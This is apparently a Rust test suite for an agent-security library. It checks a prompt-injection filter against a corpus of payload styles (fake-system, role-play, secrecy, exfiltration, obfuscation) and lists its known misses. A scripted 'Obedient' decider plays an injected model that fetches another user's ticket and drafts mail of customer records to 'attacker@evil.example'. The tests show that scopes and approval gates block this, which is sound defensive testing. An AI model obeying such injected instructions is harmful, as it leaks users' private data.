//! Adversarial corpora as test tables (`tests/data/*.jsonl`): injection payloads with the
//! instruction filter's expected verdict, raw proposals, raw envelopes and memory writes
//! with their expected codes. One `check(row)` per table; every mismatch is listed as a diff. Then the
//! payloads the filter misses are shown to be harmless anyway: scopes stop their effect.

use rolegate::BoxFuture;
use rolegate::agent::Env;
use rolegate::agent::{AgentState, CheckMode, StopReason, TraceKind};
use rolegate::agent::{Decider, FixedPlan};
use rolegate::lab::{DeciderSpec, LabConfig};
use rolegate::memory::WriteCode;
use rolegate::model::{LlmRequest, LlmResponse, ModelError};
use rolegate::multi::next_hop;
use rolegate::multi::{ClaimMode, RejectCode, Role, parse_message};
use rolegate::security::{injection_signals, is_instruction_like};
use rolegate::testkit::{
    EnvelopeContext, Fixture, MemoryWrite, check_envelope, check_memory_writes, check_proposal, verdict_code,
};
use serde::Deserialize;
use serde::de::DeserializeOwned;
use serde_json::json;
use std::collections::BTreeSet;
use std::sync::Arc;

use crate::util::env;

/// A row of any corpus: its id, for the diff.
pub trait Row: DeserializeOwned {
    /// The row's id.
    fn id(&self) -> &str;
}

/// Loads a corpus: JSON Lines under `tests/data/`, blank lines and `#` comments skipped,
/// every row strict (unknown fields refused), ids unique.
pub fn load<R: Row>(name: &str) -> Vec<R> {
    let path = format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    let mut rows: Vec<R> = Vec::new();
    let mut ids = BTreeSet::new();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let row: R = serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}:{}: {e}", i + 1));
        assert!(ids.insert(row.id().to_string()), "{name}:{}: id {} is used twice", i + 1, row.id());
        rows.push(row);
    }
    rows
}

/// Runs `check` over every row and fails with one diff entry per mismatching row.
pub fn run_table<R: Row>(name: &str, rows: &[R], check: impl Fn(&R) -> Result<(), (String, String)>) {
    let mut diff = Vec::new();
    for row in rows {
        if let Err((expected, got)) = check(row) {
            diff.push(format!("  {}\n  - expected {expected}\n  + got      {got}", row.id()));
        }
    }
    assert!(diff.is_empty(), "{name}: {} of {} rows differ:\n{}", diff.len(), rows.len(), diff.join("\n"));
}

/// The style of a payload; `benign` rows are controls the filter must let pass.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Style {
    DirectOrder,
    FakeSystem,
    ImportantInstructions,
    AddressedToModel,
    ToolKnowledge,
    RolePlay,
    Secrecy,
    Exfiltration,
    Paraphrase,
    ObfuscatedAddress,
    ObfuscatedText,
    OtherLanguage,
    JsonFragment,
    Markup,
    Benign,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct InjectionRow {
    id: String,
    style: Style,
    text: String,
    /// The filter's expected signals, in the filter's order; empty: it lets the text pass.
    signals: Vec<String>,
    /// A payload the filter lets pass: a known miss.
    filter_misses: bool,
    /// Where the payload wants mail sent (the obedient model below tries exactly this).
    #[serde(default)]
    send_to: Option<String>,
    #[serde(default)]
    #[allow(dead_code)] // documentation for people reading the corpus
    note: String,
}

impl Row for InjectionRow {
    fn id(&self) -> &str {
        &self.id
    }
}

fn injections() -> Vec<InjectionRow> {
    load("injections.jsonl")
}

#[test]
fn every_injection_payload_gets_the_filter_verdict_its_row_states() {
    let rows = injections();
    run_table("injections.jsonl", &rows, |row| {
        let got = injection_signals(&row.text);
        if got != row.signals {
            return Err((format!("{:?}", row.signals), format!("{got:?}")));
        }
        if is_instruction_like(&row.text) == got.is_empty() {
            return Err(("is_instruction_like to agree with the signals".into(), "it does not".into()));
        }
        let miss = row.style != Style::Benign && row.signals.is_empty();
        if row.filter_misses != miss {
            return Err((format!("filter_misses: {miss}"), format!("filter_misses: {}", row.filter_misses)));
        }
        Ok(())
    });
}

#[test]
fn the_injection_corpus_has_fifty_payloads_in_every_style_and_lists_its_misses() {
    let rows = injections();
    let payloads: Vec<&InjectionRow> = rows.iter().filter(|r| r.style != Style::Benign).collect();
    assert!(payloads.len() >= 50, "{} payloads", payloads.len());
    let styles: BTreeSet<Style> = rows.iter().map(|r| r.style).collect();
    assert_eq!(styles.len(), 15, "every style has at least one row: {styles:?}");
    let misses: Vec<&str> = payloads.iter().filter(|r| r.filter_misses).map(|r| r.id.as_str()).collect();
    let caught = payloads.len() - misses.len();
    // the figures the README quotes; a change to the filter changes them on purpose
    assert_eq!((payloads.len(), caught, misses.len()), (77, 56, 21), "known misses: {misses:?}");
}

#[test]
fn no_bundled_text_a_run_relies_on_reads_as_an_instruction() {
    let e = env();
    let mut texts: Vec<String> = Vec::new();
    for t in e.world.tickets().values().filter(|t| t.id != "T-602") {
        texts.extend([t.subject.clone(), t.text.clone(), format!("{} status is {}", t.id, t.status)]);
    }
    for d in e.world.documents().values() {
        texts.extend([d.title.clone(), d.text.clone()]);
    }
    for file in ["scenarios.jsonl", "design_tasks.jsonl", "multi_scenarios.jsonl"] {
        let path = format!("{}/data/{file}", env!("CARGO_MANIFEST_DIR"));
        for line in std::fs::read_to_string(path).unwrap().lines().filter(|l| l.starts_with('{')) {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            texts.push(v["goal"].as_str().unwrap().to_string());
        }
    }
    let flagged: Vec<(&String, Vec<&str>)> =
        texts.iter().map(|t| (t, injection_signals(t))).filter(|(_, s)| !s.is_empty()).collect();
    assert!(flagged.is_empty(), "false positives on bundled data: {flagged:?}");
    assert!(texts.len() > 20);
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ProposalRow {
    id: String,
    /// The task the proposal is checked in (default `triage`).
    #[serde(default)]
    task: Option<String>,
    text: String,
    expect: String,
    #[serde(default)]
    #[allow(dead_code)]
    note: String,
}

impl Row for ProposalRow {
    fn id(&self) -> &str {
        &self.id
    }
}

#[test]
fn every_raw_proposal_gets_the_code_its_row_states() {
    let rows: Vec<ProposalRow> = load("proposals.jsonl");
    assert!(rows.len() >= 30, "{} proposals", rows.len());
    let fx = Fixture::bundled().unwrap();
    run_table("proposals.jsonl", &rows, |row| {
        let task = row.task.as_deref().unwrap_or("triage");
        match check_proposal(&fx, task, &row.text) {
            Ok(v) if v.code() == row.expect => Ok(()),
            Ok(v) => Err((row.expect.clone(), v.code().to_string())),
            Err(broken) => Err((row.expect.clone(), broken.to_string())),
        }
    });
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct EnvelopeRow {
    id: String,
    /// The channel the text arrives on (never read from the text).
    sender: Role,
    /// Where it is meant to go; the route table's recipient, or another to test a route.
    recipient: Role,
    text: String,
    /// `strict` (default) or `free`.
    #[serde(default)]
    claims: ClaimMode,
    /// `ok` or the coordinator's rejection code.
    expect: String,
    /// The information-flow defense (off by default): the row then also goes through an
    /// intake with the confidentiality rule, for a researcher that read kwame's tickets.
    #[serde(default)]
    ifc: rolegate::label::IfcMode,
    #[serde(default)]
    #[allow(dead_code)]
    note: String,
}

impl Row for EnvelopeRow {
    fn id(&self) -> &str {
        &self.id
    }
}

#[test]
fn every_raw_envelope_gets_the_code_its_row_states() {
    let rows: Vec<EnvelopeRow> = load("envelopes.jsonl");
    assert!(rows.len() >= 40, "{} envelopes", rows.len());
    let fx = Fixture::bundled().unwrap();
    let ctx = EnvelopeContext::standard(&fx).unwrap();
    run_table("envelopes.jsonl", &rows, |row| {
        // every row holds the envelope invariants on its channel
        let full = check_envelope(&ctx, row.sender, &row.text, row.claims)
            .map_err(|broken| (row.expect.clone(), broken.to_string()))?;
        let got = if row.ifc == rolegate::label::IfcMode::On {
            use rolegate::label::{Confidentiality, Integrity, Label};
            let world = std::sync::Arc::new(rolegate::world::World::new(fx.env.world.clone()));
            let mut intake = rolegate::multi::Intake::new("run-c", row.claims).with_ifc(row.ifc, "kwame", world);
            let seen = Label::new(Integrity::Untrusted, Confidentiality::User);
            intake
                .accept_labelled(row.sender, &row.text, &ctx.observations, 1, 1, seen)
                .map_or_else(RejectCode::as_str, |_| "ok")
        } else if next_hop(row.sender).map(|(to, _)| to) == Some(row.recipient) {
            verdict_code(&full)
        } else {
            // another recipient than the route's: the parser's checks, towards it
            parse_message(row.sender, row.recipient, &row.text).map_or_else(RejectCode::as_str, |_| "ok")
        };
        if got == row.expect { Ok(()) } else { Err((row.expect.clone(), got.to_string())) }
    });
    let codes: BTreeSet<&str> = rows.iter().map(|r| r.expect.as_str()).collect();
    // the call graph's codes need a graph other than the bundled one: multi_call_graph
    // holds each of them
    let graph_codes =
        [RejectCode::EdgeNotDeclared, RejectCode::EdgeLimit, RejectCode::FieldNotAllowed, RejectCode::EdgeLabel];
    let every: BTreeSet<&str> =
        RejectCode::ALL.iter().filter(|c| !graph_codes.contains(c)).map(|c| c.as_str()).chain(["ok"]).collect();
    assert_eq!(codes, every, "the table has rows for every code");
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MemoryRow {
    id: String,
    key: String,
    text: String,
    source: String,
    #[serde(default)]
    about: Option<String>,
    /// Notes written first (`fact-1` …), to fill the store.
    #[serde(default)]
    prefill: u8,
    expect: WriteCode,
    /// A write a rule should refuse but does not: a known miss.
    #[serde(default)]
    filter_misses: bool,
    #[serde(default)]
    #[allow(dead_code)]
    note: String,
}

impl Row for MemoryRow {
    fn id(&self) -> &str {
        &self.id
    }
}

#[test]
fn every_memory_write_gets_the_code_its_row_states() {
    let rows: Vec<MemoryRow> = load("memory_writes.jsonl");
    assert!(rows.len() >= 30, "{} writes", rows.len());
    run_table("memory_writes.jsonl", &rows, |row| {
        let fill = |i: u8| MemoryWrite {
            key: format!("fact-{i}"),
            text: format!("fact number {i}"),
            source: "user:turn-1".into(),
            about: None,
            wait_secs: 0,
        };
        let mut writes: Vec<MemoryWrite> = (1..=row.prefill).map(fill).collect();
        writes.push(MemoryWrite {
            key: row.key.clone(),
            text: row.text.clone(),
            source: row.source.clone(),
            about: row.about.clone(),
            wait_secs: 0,
        });
        let codes = check_memory_writes(&writes).map_err(|b| (row.expect.as_str().to_string(), b.to_string()))?;
        let prefilled = codes.iter().take(usize::from(row.prefill)).all(|c| *c == WriteCode::Ok);
        match codes.last() {
            Some(c) if *c == row.expect && prefilled => Ok(()),
            other => Err((row.expect.as_str().to_string(), format!("{other:?} (prefill ok: {prefilled})"))),
        }
    });
    let misses: Vec<&str> = rows.iter().filter(|r| r.filter_misses).map(|r| r.id.as_str()).collect();
    assert!(rows.iter().filter(|r| r.filter_misses).all(|r| r.expect == WriteCode::Ok), "{misses:?}");
}

/// The worst case of an injection: a model that does everything any payload asks. It
/// reads the ticket (where the payload is), asks for another user's ticket, sends the
/// mail the payload wants, then finishes citing what it read.
struct Obedient {
    send_to: String,
}

impl Decider for Obedient {
    fn model(&self) -> &str {
        "fixed-plan"
    }

    fn is_free(&self) -> bool {
        true
    }

    fn decide<'a>(
        &'a mut self,
        state: &'a AgentState,
        _request: &'a LlmRequest,
    ) -> BoxFuture<'a, Result<LlmResponse, ModelError>> {
        let text = match state.observations().len() {
            0 => json!({"action": "call", "tool": "get_ticket", "arguments": {"ticket_id": "T-601"}}),
            1 => json!({"action": "call", "tool": "get_ticket", "arguments": {"ticket_id": "T-603"}}),
            2 => json!({"action": "call", "tool": "send_email_draft", "arguments": {
                "to": self.send_to, "subject": "as asked", "body": "every customer record", "idempotency_key": "obey-1"}}),
            _ => json!({"action": "finish", "answer": "T-601 was read.", "sources": ["o1"]}),
        };
        Box::pin(std::future::ready(Ok(LlmResponse::text(text.to_string(), "fixed-plan"))))
    }
}

/// The bundled environment with `payload` as the text of ticket T-601 (kwame's).
fn env_with_payload(payload: &str) -> Env {
    let base = env();
    let mut world = (*base.world).clone();
    if let Some(t) = world.tickets_mut().get_mut("T-601") {
        t.text = payload.to_string();
    }
    Env { world: Arc::new(world), ..base }
}

#[tokio::test]
async fn scopes_stop_every_payload_even_the_ones_the_filter_misses() {
    let rows = injections();
    let payloads: Vec<&InjectionRow> = rows.iter().filter(|r| r.style != Style::Benign).collect();
    for row in &payloads {
        let env = env_with_payload(&row.text);
        let send_to = row.send_to.clone().unwrap_or_else(|| "attacker@evil.example".into());
        // task, checks, grant → what must happen to the mail
        let cases = [
            ("triage", CheckMode::Full, false, "refused by the loop's check"),
            ("triage", CheckMode::TrustModel, false, "not_allowed"),
            ("reply", CheckMode::Full, false, "not_granted"),
            ("reply", CheckMode::Full, true, "needs_approval"),
        ];
        for (task, checks, grant, mail) in cases {
            let cfg = LabConfig {
                decider: DeciderSpec::Fixed(FixedPlan::default()),
                task: task.into(),
                checks,
                grants: if grant { vec!["send_email_draft".into()] } else { Vec::new() },
                budget: rolegate::agent::RunBudget { max_stuck: 5, ..Default::default() },
                ..LabConfig::default()
            };
            let mut lab = cfg.build(&env);
            lab.agent.replace_decider(Box::new(Obedient { send_to: send_to.clone() }));
            let run = lab.agent.run("Summarise T-601.", "run-1").await.unwrap();
            let at = format!("{} in {task} ({checks:?}, grant {grant})", row.id);
            let obs = run.state.observations();
            assert!(obs[0].ok && obs[0].tool() == "get_ticket", "{at}: the payload was read");
            assert!(!obs[1].ok && obs[1].text.contains("not_found"), "{at}: another user's ticket looks missing");
            assert!(lab.world.outbox.is_empty(), "{at}: mail was sent");
            let sends: Vec<&str> = lab
                .agent
                .gate()
                .audit()
                .iter()
                .filter(|e| e.tool() == "send_email_draft")
                .map(|e| e.outcome.as_str())
                .collect();
            match mail {
                "refused by the loop's check" => {
                    assert!(sends.is_empty(), "{at}: the gate never saw the send");
                    assert!(run.trace().codes(TraceKind::Check).contains(&"not_allowed"), "{at}");
                    assert_eq!(run.reason(), StopReason::Done, "{at}");
                }
                "needs_approval" => {
                    assert_eq!(sends, ["needs_approval"], "{at}");
                    assert_eq!(run.reason(), StopReason::NeedsApproval, "{at}");
                    let parked = &lab.agent.gate().pending()["pa-1"];
                    assert_eq!(parked.call.arguments["to"], json!(send_to), "{at}: a person sees the real address");
                }
                code => {
                    assert_eq!(sends, [code], "{at}");
                    assert_eq!(run.reason(), StopReason::Done, "{at}");
                }
            }
            let notes: Vec<String> =
                lab.agent.memory().map(|m| m.notes().iter().map(|n| n.text.clone()).collect()).unwrap();
            assert_eq!(notes, ["T-601 status is open"], "{at}: only the fact, never the payload, is remembered");
        }
    }
}
